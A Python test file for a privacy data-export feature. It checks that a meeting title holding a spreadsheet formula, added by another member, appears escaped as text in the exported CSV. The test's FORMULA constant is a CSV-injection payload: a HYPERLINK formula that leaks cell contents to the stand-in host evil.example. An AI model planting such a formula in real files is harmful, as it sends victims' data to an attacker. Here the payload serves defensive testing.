"""The export's CSV files: a formula typed by someone else is shown as text, never run."""

import csv
import io
import zipfile

from privacy.export import export_zip_write
from privacy.models import SubjectRequest
from tests.factories import UserFactory
from tests.meetings.factories import MeetingFactory
from tests.support.tenants import in_schema

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _csv_rows(zf, suffix):
    [name] = [n for n in zf.namelist() if n.endswith(suffix)]
    return list(csv.DictReader(io.StringIO(zf.read(name).decode())))


def test_another_members_formula_reaches_the_csv_as_text(acme):
    with in_schema(acme):
        subject = UserFactory(username="zed", email="zed@acme.example", phone="+33612345678")
        attacker = UserFactory(username="mallory", email="mallory@acme.example")
        MeetingFactory(title=FORMULA, organiser=attacker, participants=[subject])
    subject_request = SubjectRequest.objects.create(
        type=SubjectRequest.Type.ACCESS,
        email=subject.email,
        extranet_schema=acme.schema_name,
        user_id=subject.pk,
    )
    buffer = io.BytesIO()
    export_zip_write(subject_request=subject_request, fileobj=buffer)
    with zipfile.ZipFile(buffer) as zf:
        meetings = _csv_rows(zf, "acme/meetings.csv")
        profile = _csv_rows(zf, "acme/profile.csv")
    titles = [row["title"] for row in meetings if row.get("title")]
    assert titles == ["'" + FORMULA]
    assert [row["phone"] for row in profile if row["model"] == "accounts.User"] == ["+33612345678"]
